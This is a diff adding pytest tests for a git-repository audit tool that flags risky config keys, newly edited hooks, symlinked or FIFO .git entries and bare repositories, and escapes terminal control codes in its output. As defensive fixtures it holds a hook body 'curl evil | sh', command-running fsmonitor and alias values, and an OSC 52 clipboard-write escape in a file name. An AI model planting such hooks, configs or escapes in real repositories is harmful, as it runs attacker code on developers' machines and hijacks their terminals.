@@ -39,9 +39,61 @@ def test_programs_in_a_new_repository_are_found_and_plain_ones_are_not(tmp_path:
     assert found.complete
     got = {r.path: r.why for r in found.risky}
     assert got == {
-        "a/b/.git": ("config: alias.sh", "config: core.fsmonitor", "config: filter.*.clean"),
+        "a/b/.git": ("config: alias.*", "config: core.fsmonitor", "config: filter.*.clean"),
         "hooked/.git": ("hooks/post-checkout",),
     }
+
+
+@pytest.mark.parametrize("git_installed", [True, False])
+@pytest.mark.parametrize(("text", "keys"), [
+    ('[core] fsmonitor = "touch x"\n', ["core.fsmonitor"]),  # a key on the header line
+    ('\ufeff[core]\n\tfsmonitor = x\n', ["core.fsmonitor"]),  # a byte-order mark
+    ('[filter\t"a.b"]\n\tclean = evil\n', ["filter.*.clean"]),  # tab, dots in the name
+    ('[core]\n\tx = a \\\n[user]\n\tfsmonitor = evil\n', ["core.fsmonitor"]),  # continued
+    ('[include]path=x\n', ["include.path"]),
+    ('[alias]\n\tst = status\n\tsh = "!sh"\n', ["alias.*"]),
+    ('[core]\n\tbare = false\n[alias]\n\tst = status\n', []),
+])
+def test_config_is_read_as_git_reads_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                        git_installed: bool, text: str, keys: list[str]) -> None:
+    if not git_installed:
+        monkeypatch.setattr(gitaudit, "_git_pairs", lambda _config: None)
+    (tmp_path / "config").write_text(text, encoding="utf-8")
+    assert gitaudit.program_keys(str(tmp_path / "config")) == keys
+
+
+def test_links_fifos_bare_repositories_and_edited_hooks(tmp_path: Path) -> None:
+    old = repo(tmp_path / "edited", hooks={"post-merge": "#!/bin/sh\ntrue\n"})
+    since = time.time() + 2
+    time.sleep(0.01)
+    os.utime(old, (since - 100, since - 100))  # mtimes can be set back; ctimes cannot
+    # nothing new: not reported
+    assert audit(str(tmp_path), since=since).risky == ()
+    # an existing hook rewritten during the session is
+    later = time.time() - 1
+    (old / "hooks" / "post-merge").write_text("#!/bin/sh\ncurl evil | sh\n")
+    (tmp_path / "linked").mkdir()
+    os.symlink(tmp_path / "elsewhere", tmp_path / "linked" / ".git")
+    fifo = repo(tmp_path / "fifo")
+    (fifo / "config").unlink()
+    os.mkfifo(fifo / "config")  # read as a file, it would block the launcher
+    bare = tmp_path / "c"
+    for d in ("objects", "refs"):
+        (bare / d).mkdir(parents=True)
+    (bare / "HEAD").write_text("ref: refs/heads/main\n")
+    (bare / "config").write_text('[core]\n\tbare = false\n\tfsmonitor = "x"\n')
+    got = {r.path: r.why for r in audit(str(tmp_path), since=later).risky}
+    assert got == {"edited/.git": ("hooks/post-merge",), "linked/.git": ("a symbolic link",),
+                   "c": ("config: core.fsmonitor",)}
+
+
+def test_what_is_said_cannot_drive_the_terminal(tmp_path: Path) -> None:
+    name = "q\r\x1b]52;c;ZXZpbA==\x07"
+    repo(tmp_path / name, hooks={"x\x1b[2K": "#!/bin/sh\n"})
+    found = audit(str(tmp_path), since=time.time() - 1)
+    said = gitaudit.describe(found, str(tmp_path)) or ""
+    assert "\x1b" not in said and "\r" not in said and "\x07" not in said
+    assert "\\x1b" in said  # shown, escaped
 
 
 def test_only_what_changed_during_the_session_counts(tmp_path: Path) -> None:
